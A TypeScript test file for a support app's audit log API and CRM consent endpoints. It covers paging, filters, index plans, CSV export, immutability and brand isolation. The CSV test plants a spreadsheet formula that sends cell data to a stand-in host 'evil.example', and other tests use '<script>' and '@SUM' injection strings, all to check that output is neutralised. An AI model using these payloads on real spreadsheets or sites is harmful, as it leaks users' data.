/**
 * The brand-wide audit log (`GET /api/audit`, `src/store/auditQueries.ts`): every entry
 * readable, including those that belong to no conversation (CRM links, guidelines, people,
 * tokens, sign-ins), filtered, paged newest first on the (brand_id, created_at) index of
 * both engines, exported as neutralised CSV, and never changed. Also the consent behind a
 * CRM link (`GET /api/contacts/:id/crm-consent`) and an unlink that finds nothing to remove.
 */
import { CompiledQuery, sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBrand, createUser } from '../src/commands/setup.js';
import { parseCsv } from '../src/lib/csv.js';
import { auditPageQuery, listAudit, readAudit, type AuditCursor, type AuditFilter } from '../src/store/auditQueries.js';
import type { Store } from '../src/store/db.js';
import { DIALECTS, describeEachStore } from './db.js';
import { Client, consentGiven, mention, startDesk, type TestDesk } from './helpers/parley.js';

const ACTIONS = ['conversation.assigned', 'reply.sent', 'contact.crm_linked', 'contact.crm_unlinked', 'contactx.other', 'user.created', 'auth.login', 'guideline.published'];
const T0 = Date.UTC(2026, 0, 1);

interface Seeded {
  id: number;
  brand: number;
  createdAt: number;
  action: string;
  actorUserId: number | null;
  conversationId: number | null;
  subjectType: string;
  subjectId: string;
}

/** Rows for two brands; every three share one millisecond, so ties must be ordered by id. */
async function seed(store: Store, brands: [number, number], perBrand: number): Promise<Seeded[]> {
  const rows = [];
  for (let i = 0; i < perBrand * 2; i++) {
    const brand = brands[i % 2]!;
    const n = Math.floor(i / 2);
    rows.push({
      brand_id: brand,
      actor_user_id: n % 4 === 3 ? null : (n % 4) + 1,
      actor: n % 4 === 3 ? 'system:sla' : `user:${(n % 4) + 1}`,
      action: ACTIONS[n % ACTIONS.length]!,
      subject_type: n % 5 === 0 ? 'contact' : 'conversation',
      subject_id: String(n % 50),
      conversation_id: n % 5 === 0 ? null : (n % 97) + 1,
      data: JSON.stringify({ n }),
      created_at: T0 + Math.floor(n / 3) * 1000,
    });
  }
  for (let i = 0; i < rows.length; i += 500) await store.db.insertInto('audit_event').values(rows.slice(i, i + 500)).execute();
  const back = await store.db.selectFrom('audit_event').selectAll().where('brand_id', 'in', brands).execute();
  return back.map((r) => ({ id: Number(r.id), brand: Number(r.brand_id), createdAt: Number(r.created_at), action: r.action, actorUserId: r.actor_user_id == null ? null : Number(r.actor_user_id), conversationId: r.conversation_id == null ? null : Number(r.conversation_id), subjectType: r.subject_type, subjectId: r.subject_id }));
}

const newestFirst = (a: Seeded, b: Seeded) => b.createdAt - a.createdAt || b.id - a.id;

/** The plan of one page's query, as text lines (SQLite) or node descriptions (PostgreSQL). */
async function plan(store: Store, f: AuditFilter, cursor: AuditCursor | null): Promise<string[]> {
  const c = auditPageQuery(store.db, store.dialect, f, cursor, 51).compile();
  if (store.dialect === 'sqlite') {
    const r = await store.db.executeQuery<{ detail: string }>(CompiledQuery.raw(`EXPLAIN QUERY PLAN ${c.sql}`, [...c.parameters]));
    return r.rows.map((x) => x.detail);
  }
  // planned the way pages are read (readAudit's settings)
  const r = await readAudit(store, (db) => db.executeQuery<{ 'QUERY PLAN': unknown }>(CompiledQuery.raw(`EXPLAIN (FORMAT JSON) ${c.sql}`, [...c.parameters])));
  const out: string[] = [];
  const walk = (node: any) => {
    out.push(`${node['Node Type']}${node['Scan Direction'] ? ` ${node['Scan Direction']}` : ''}${node['Index Name'] ? ` using ${node['Index Name']}` : ''}${node['Relation Name'] ? ` on ${node['Relation Name']}` : ''}`);
    for (const p of node.Plans ?? []) walk(p);
  };
  const doc = r.rows[0]!['QUERY PLAN'];
  walk((typeof doc === 'string' ? JSON.parse(doc) : doc)[0].Plan);
  return out;
}

describeEachStore('audit log queries', (get, dialect) => {
  let all: Seeded[] = [];
  let brandA = 0;
  beforeAll(async () => {
    const store = get().store;
    brandA = await createBrand(store.db, { slug: 'audit-a', name: 'A' }, T0);
    const brandB = await createBrand(store.db, { slug: 'audit-b', name: 'B' }, T0);
    all = await seed(store, [brandA, brandB], 10_000);
    if (dialect === 'postgres') await sql`analyze audit_event`.execute(store.db);
  });
  const mine = () => all.filter((r) => r.brand === brandA).sort(newestFirst);
  const lastOf = (rows: Seeded[]): AuditCursor => ({ createdAt: rows[rows.length - 1]!.createdAt, id: rows[rows.length - 1]!.id });

  it('walks every page newest first, ties in one millisecond by id, each entry once, and never another brand\'s', async () => {
    const store = get().store;
    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: Awaited<ReturnType<typeof listAudit>> = await listAudit(store, { brandId: brandA, from: T0 + 100_000, to: T0 + 400_000 }, { cursor, limit: 37 });
      expect(page.rows.length).toBeLessThanOrEqual(37);
      seen.push(...page.rows.map((r) => Number(r.id)));
      cursor = page.nextCursor;
      pages++;
    } while (cursor);
    const expected = mine().filter((r) => r.createdAt >= T0 + 100_000 && r.createdAt < T0 + 400_000);
    expect(expected.length).toBe(900);
    expect(seen).toEqual(expected.map((r) => r.id));
    expect(pages).toBe(Math.ceil(900 / 37));
  });

  it('filters by action (exact or prefix), subject, person and conversation', async () => {
    const store = get().store;
    const ids = async (f: Omit<AuditFilter, 'brandId'>) => (await listAudit(store, { brandId: brandA, ...f }, { limit: 200 })).rows.map((r) => Number(r.id));
    const top = (pred: (r: Seeded) => boolean) => mine().filter(pred).slice(0, 200).map((r) => r.id);
    // `contact.` is a prefix and does not match `contactx.other`; `_` is no wildcard
    expect(await ids({ action: 'contact.' })).toEqual(top((r) => r.action.startsWith('contact.')));
    expect(await ids({ action: 'contact.crm_*' })).toEqual(top((r) => r.action.startsWith('contact.crm_')));
    expect(await ids({ action: 'contact_crm*' })).toEqual([]);
    expect(await ids({ action: 'reply.sent' })).toEqual(top((r) => r.action === 'reply.sent'));
    expect(await ids({ action: 'reply.sen' })).toEqual([]);
    expect(await ids({ subjectType: 'contact', subjectId: '10' })).toEqual(top((r) => r.subjectType === 'contact' && r.subjectId === '10'));
    expect(await ids({ actorUserId: 2 })).toEqual(top((r) => r.actorUserId === 2));
    expect(await ids({ conversationId: 5 })).toEqual(top((r) => r.conversationId === 5));
    expect((await ids({ conversationId: 5 })).length).toBeGreaterThan(0);
  });

  const FILTERS: [string, Omit<AuditFilter, 'brandId'>, boolean][] = [
    ['the newest page', {}, true],
    ['a period', { from: T0 + 50_000, to: T0 + 90_000 }, true],
    ['an action prefix', { action: 'contact.' }, false],
    ['one action', { action: 'reply.sent' }, false],
    ['a person', { actorUserId: 3 }, false],
    ['a subject', { subjectType: 'contact', subjectId: '20' }, false],
    ['a conversation', { conversationId: 7 }, false],
  ];
  for (const [what, f, brandIndex] of FILTERS) {
    for (const paged of [false, true]) {
      it(`reads ${what}${paged ? ' after a cursor' : ''} through an index, never a full scan`, async () => {
        const store = get().store;
        const cursor = paged ? lastOf(mine().slice(0, 500)) : null;
        const p = await plan(store, { brandId: brandA, ...f }, cursor);
        const text = p.join('\n');
        if (dialect === 'sqlite') {
          expect(text, text).not.toMatch(/SCAN audit_event\b(?! USING)/);
          expect(text, text).toMatch(/SEARCH audit_event USING (COVERING )?INDEX audit_event_(brand|conversation)/);
          if (brandIndex) {
            // a period or a cursor narrows the walk on the index itself, not by filtering rows
            expect(text, text).toMatch(cursor || f.from != null ? /USING INDEX audit_event_brand \(brand_id=\? AND created_at[<>]/ : /USING INDEX audit_event_brand \(brand_id=\?\)/);
            // the index (brand_id, created_at, rowid) already gives the order: no sort
            expect(text, text).not.toMatch(/TEMP B-TREE/);
          }
        } else {
          expect(text, text).not.toMatch(/Seq Scan/);
          expect(text, text).toMatch(/Index Scan.* using audit_event_(brand|conversation)/);
          if (brandIndex) expect(text, text).toMatch(/Index Scan Backward using audit_event_brand/);
        }
      });
    }
  }
});

for (const dialect of DIALECTS) {
  describe(`GET /api/audit and CRM consent over HTTP [${dialect}]`, () => {
    let desk: TestDesk;
    let admin: Client;
    let ana: Client;
    let cleo: Client;
    let eli: Client;
    let contactId = 0;
    let conversationId = 0;
    let consentMessageId = 0;
    beforeAll(async () => {
      desk = await startDesk(dialect);
      admin = await Client.signIn(desk.url, 'admin@acme.test');
      ana = await Client.signIn(desk.url, 'ana@acme.test');
      cleo = await Client.signIn(desk.url, 'cleo@acme.test');
      eli = await Client.signIn(desk.url, 'eli@acme.test');
      const first = mention({ text: '@AcmeCare where is my order?' });
      const r = await admin.post('/api/ingest/messages', { channelAccountId: desk.accountId, messages: [first] });
      conversationId = r.json.outcomes[0].conversationId;
      contactId = (await ana.get(`/api/conversations/${conversationId}`)).json.contact.id;
      // asked in the conversation (audited there), answered with their consent
      consentMessageId = await consentGiven(desk, ana, admin, conversationId, first.author, '@AcmeCare yes, <b>link</b> my account 4411 =1+1');
    });
    afterAll(async () => desk?.stop());

    const auditOf = async (c: Client, query: string) => c.get(`/api/audit${query}`);

    it('shows admins and approvers the entries no conversation shows (CRM links, guidelines, sign-ins), with the actor\'s name; agents and experts get 403', async () => {
      const linked = await ana.post(`/api/contacts/${contactId}/crm-link`, { crmCustomerId: 'CUST-4411', consent: { method: 'customer_message', messageId: consentMessageId } });
      expect(linked.status).toBe(200);
      expect((await admin.post('/api/guidelines', { code: 'spam', title: 'No spam', description: 'Unsolicited advertising is hidden.', allowedActions: ['hide'] })).status).toBe(201);
      // the conversation's own trail does not have the link: it belongs to no conversation
      expect((await ana.get(`/api/conversations/${conversationId}`)).json.audit.map((e: any) => e.action)).not.toContain('contact.crm_linked');

      const r = await auditOf(admin, '?action=contact.');
      expect(r.status).toBe(200);
      // the question asked belongs to the conversation; the link does not
      expect(r.json.items.map((e: any) => [e.action, e.conversationId])).toEqual([['contact.crm_linked', null], ['contact.crm_consent_asked', conversationId]]);
      expect(r.json.items[0]).toMatchObject({ action: 'contact.crm_linked', actor: `user:${desk.users.ana}`, actorUserId: desk.users.ana, actorName: 'Ana Agent', subjectType: 'contact', subjectId: String(contactId), conversationId: null, data: { crmCustomerId: 'CUST-4411', method: 'customer_message' } });
      const everything = (await auditOf(cleo, '?limit=200')).json.items.map((e: any) => e.action);
      expect(everything).toEqual(expect.arrayContaining(['contact.crm_linked', 'guideline.published', 'auth.login', 'user.created']));
      for (const c of [ana, eli]) {
        const refused = await auditOf(c, '');
        expect(refused.status).toBe(403);
        expect(refused.json.code).toBe('forbidden');
      }
      expect((await fetch(`${desk.url}/api/audit`)).status).toBe(401);
      // documented from the same schemas
      const doc = (await (await fetch(`${desk.url}/api/openapi.json`)).json()) as any;
      expect(doc.paths['/api/audit'].get.parameters.map((p: any) => p.name)).toEqual(expect.arrayContaining(['action', 'subjectType', 'subjectId', 'actorUserId', 'conversationId', 'from', 'to', 'cursor', 'limit', 'format']));
      expect(Object.keys(doc.paths['/api/audit'])).toEqual(['get']);
      expect(doc.paths['/api/contacts/{id}/crm-consent'].get).toBeTruthy();
    });

    it('filters by person, subject, conversation and period, and refuses what it cannot read (400)', async () => {
      await ana.post(`/api/conversations/${conversationId}/priority`, { priority: 80 });
      const byAna = (await auditOf(admin, `?actorUserId=${desk.users.ana}&limit=200`)).json.items;
      expect(byAna.length).toBeGreaterThan(1);
      expect(byAna.every((e: any) => e.actorUserId === desk.users.ana)).toBe(true);
      const onConv = (await auditOf(admin, `?conversationId=${conversationId}`)).json.items;
      expect(onConv.map((e: any) => e.action)).toContain('conversation.priority');
      expect(onConv.every((e: any) => e.conversationId === conversationId)).toBe(true);
      const onContact = (await auditOf(admin, `?subjectType=contact&subjectId=${contactId}`)).json.items;
      expect(onContact.map((e: any) => e.action)).toEqual(['contact.crm_linked', 'contact.crm_consent_asked']);
      const future = new Date(Date.now() + 3_600_000).toISOString();
      expect((await auditOf(admin, `?from=${encodeURIComponent(future)}`)).json.items).toEqual([]);
      const past = new Date(Date.now() - 3_600_000).toISOString();
      expect((await auditOf(admin, `?from=${encodeURIComponent(past)}&to=${encodeURIComponent(future)}&action=contact.`)).json.items).toHaveLength(2);

      for (const [q, code] of [
        [`?from=${encodeURIComponent(future)}&to=${encodeURIComponent(past)}`, 'validation'],
        [`?from=${encodeURIComponent(past)}&to=${encodeURIComponent(past)}`, 'validation'],
        ['?from=yesterday', 'validation'],
        ['?subjectId=1', 'validation'],
        ['?limit=201', 'validation'],
        ['?limit=0', 'validation'],
        ['?cursor=bm90LWEtY3Vyc29y', 'cursor.invalid'],
        ['?action=reply%25', 'validation'],
      ] as const) {
        const r = await auditOf(admin, q);
        expect(r.status, q).toBe(400);
        expect(r.json.code, q).toBe(code);
      }
    });

    it('pages newest first with an opaque cursor until nextCursor is null', async () => {
      const full = (await auditOf(admin, '?limit=200')).json;
      expect(full.nextCursor).toBeNull();
      const ids: number[] = full.items.map((e: any) => e.id);
      expect(ids.length).toBeGreaterThan(5);
      const times = full.items.map((e: any) => Date.parse(e.createdAt));
      expect([...times].sort((a, b) => b - a)).toEqual(times);
      const walked: number[] = [];
      let cursor: string | null = null;
      do {
        const page: any = (await auditOf(admin, `?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`)).json;
        expect(page.items.length).toBeLessThanOrEqual(2);
        walked.push(...page.items.map((e: any) => e.id));
        cursor = page.nextCursor;
      } while (cursor);
      expect(walked).toEqual(ids);
    });

    it('exports CSV with the filters, names the actor, and neutralises cells a spreadsheet would run', async () => {
      const evil = '=HYPERLINK("https://evil.example/?"&A1,"open")';
      const t = await admin.post('/api/tokens', { name: evil });
      expect(t.status).toBe(201);
      // the token acts: its entries name it and its owner
      const viaToken = await fetch(`${desk.url}/api/guidelines`, { method: 'POST', headers: { authorization: `Bearer ${t.json.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ code: 'abuse', title: '@SUM(1+1) abuse', description: 'Abuse of staff is hidden.', allowedActions: ['hide'] }) });
      expect(viaToken.status).toBe(201);

      const res = await fetch(`${desk.url}/api/audit?format=csv&action=token.`, { headers: { cookie: admin.cookie } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="parley-audit\.csv"/);
      const rows = parseCsv(await res.text()).map((x) => (x.kind === 'record' ? x.fields : ['ERROR']));
      expect(rows[0]).toEqual(['id', 'created_at', 'actor', 'actor_name', 'action', 'subject_type', 'subject_id', 'conversation_id', 'data']);
      expect(rows).toHaveLength(2);
      expect(rows[1]![4]).toBe('token.created');
      expect(rows[1]![3]).toBe('Ada Admin');
      expect(rows[1]![6]).toBe(String(t.json.id));
      expect(JSON.parse(rows[1]![8]!)).toEqual({ name: evil, expiresAt: null });

      const g = (await auditOf(admin, '?action=guideline.published&limit=1')).json.items[0];
      expect(g.actor).toMatch(/^token:\d+$/);
      expect(g.actorName).toBe(`API token “${evil}” of Ada Admin`);

      // every entry the JSON pages list, in the same order, with or without a starting cursor
      const all = await (await fetch(`${desk.url}/api/audit?format=csv`, { headers: { cookie: cleo.cookie } })).text();
      const csvIds = parseCsv(all).slice(1).map((x) => (x.kind === 'record' ? Number(x.fields[0]) : NaN));
      const jsonIds = (await auditOf(admin, '?limit=200')).json.items.map((e: any) => e.id);
      expect(csvIds).toEqual(jsonIds);
      const first = (await auditOf(admin, '?limit=3')).json;
      const rest = await (await fetch(`${desk.url}/api/audit?format=csv&cursor=${encodeURIComponent(first.nextCursor)}`, { headers: { cookie: admin.cookie } })).text();
      expect(parseCsv(rest).slice(1).map((x) => (x.kind === 'record' ? Number(x.fields[0]) : NaN))).toEqual(jsonIds.slice(3));
      expect((await fetch(`${desk.url}/api/audit?format=csv`, { headers: { cookie: ana.cookie } })).status).toBe(403);
    });

    it('never changes an audit entry through the API', async () => {
      const count = async () => Number((await desk.db.store.db.selectFrom('audit_event').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
      const before = await count();
      const one = (await auditOf(admin, '?limit=1')).json.items[0];
      for (const [method, path] of [['POST', '/api/audit'], ['DELETE', '/api/audit'], ['PUT', '/api/audit'], ['PATCH', `/api/audit/${one.id}`], ['DELETE', `/api/audit/${one.id}`], ['PUT', `/api/audit/${one.id}`]] as const) {
        const r = await admin.req(method, path, method === 'DELETE' ? undefined : { action: 'nothing.happened' });
        expect(r.status, `${method} ${path}`).toBe(404);
      }
      expect(await count()).toBe(before);
      expect((await auditOf(admin, '?limit=1')).json.items[0]).toEqual(one);
    });

    it('never shows another brand\'s entries or names its people', async () => {
      const db = desk.db.store.db;
      const other = await createBrand(db, { slug: `other-${dialect}`, name: 'Other' }, Date.now());
      const stranger = await createUser(db, { brandId: other, email: `zed-${dialect}@other.test`, name: 'Zed Stranger', role: 'admin', password: 'correct horse battery' }, Date.now());
      await db.insertInto('audit_event').values({ brand_id: other, actor_user_id: stranger, actor: `user:${stranger}`, action: 'contact.crm_linked', subject_type: 'contact', subject_id: '1', conversation_id: null, data: '{"secret":true}', created_at: Date.now() }).execute();
      // an entry of this brand naming a person of the other one (it cannot happen, but must not leak)
      await db.insertInto('audit_event').values({ brand_id: desk.brandId, actor_user_id: stranger, actor: `user:${stranger}`, action: 'test.cross', subject_type: 'user', subject_id: String(stranger), conversation_id: null, data: '{}', created_at: Date.now() }).execute();
      const items = (await auditOf(admin, '?limit=200')).json.items;
      expect(items.some((e: any) => e.data?.secret)).toBe(false);
      expect(items.find((e: any) => e.action === 'test.cross').actorName).toBe(`Person #${stranger}`);
      expect(JSON.stringify(items)).not.toContain('Zed Stranger');
    });

    it('returns the consent method, the customer\'s own message as evidence, the note and who recorded it, to the people working the contact', async () => {
      const r = await ana.get(`/api/contacts/${contactId}/crm-consent`);
      expect(r.status).toBe(200);
      expect(r.json).toMatchObject({
        contactId, crmCustomerId: 'CUST-4411',
        consent: { crmCustomerId: 'CUST-4411', method: 'customer_message', note: null, recordedBy: { id: desk.users.ana, name: 'Ana Agent' }, evidenceMessage: { id: consentMessageId, conversationId, text: '@AcmeCare yes, <b>link</b> my account 4411 =1+1' } },
      });
      expect(Date.parse(r.json.consent.grantedAt)).toBeGreaterThan(0);
      // relinked on a call: the current consent is the new one, with its note
      const note = 'Call on 3 March with Ana, ref <script>alert(1)</script>';
      expect((await admin.post(`/api/contacts/${contactId}/crm-link`, { crmCustomerId: 'CUST-9', consent: { method: 'verbal', note } })).status).toBe(200);
      const again = (await cleo.get(`/api/contacts/${contactId}/crm-consent`)).json;
      expect(again).toMatchObject({ crmCustomerId: 'CUST-9', consent: { crmCustomerId: 'CUST-9', method: 'verbal', note, evidenceMessage: null, recordedBy: { id: desk.users.admin, name: 'Ada Admin' } } });
      expect((await eli.get(`/api/contacts/${contactId}/crm-consent`)).status).toBe(403);
      expect((await ana.get('/api/contacts/999999/crm-consent')).status).toBe(404);
    });

    it('unlinks once: a second unlink is a 409 crm.not_linked and writes nothing, also when two race', async () => {
      const unlinks = async () => (await auditOf(admin, `?action=contact.crm_unlinked&subjectType=contact&subjectId=${contactId}`)).json.items;
      expect((await admin.post(`/api/contacts/${contactId}/crm-link`, { crmCustomerId: 'CUST-9', consent: { method: 'verbal', note: 'Call on 3 March, taken by Ada' } })).status).toBe(200);
      expect(await unlinks()).toEqual([]);
      const first = await ana.post(`/api/contacts/${contactId}/crm-unlink`, { reason: 'customer withdrew consent' });
      expect(first.status).toBe(204);
      expect((await ana.get(`/api/contacts/${contactId}/crm-consent`)).json).toEqual({ contactId, crmCustomerId: null, consent: null });
      const second = await ana.post(`/api/contacts/${contactId}/crm-unlink`, { reason: 'customer withdrew consent' });
      expect(second.status).toBe(409);
      expect(second.json.code).toBe('crm.not_linked');
      const entries = await unlinks();
      expect(entries).toHaveLength(1);
      expect(entries[0].data).toEqual({ reason: 'customer withdrew consent', previous: 'CUST-9' });

      // two at once: one removes the link, the other finds nothing left
      expect((await ana.post(`/api/contacts/${contactId}/crm-link`, { crmCustomerId: 'CUST-10', consent: { method: 'verified_form', note: 'Form F-2231 signed online' } })).status).toBe(200);
      const raced = await Promise.all([ana.post(`/api/contacts/${contactId}/crm-unlink`, { reason: 'withdrawn (tab one)' }), admin.post(`/api/contacts/${contactId}/crm-unlink`, { reason: 'withdrawn (tab two)' })]);
      expect(raced.map((x) => x.status).sort()).toEqual([204, 409]);
      const after = await unlinks();
      expect(after).toHaveLength(2);
      expect(after[0].data.previous).toBe('CUST-10');
      const open = await desk.db.store.db.selectFrom('crm_consent').select('id').where('contact_id', '=', contactId).where('withdrawn_at', 'is', null).execute();
      expect(open).toEqual([]);
    });
  });
}
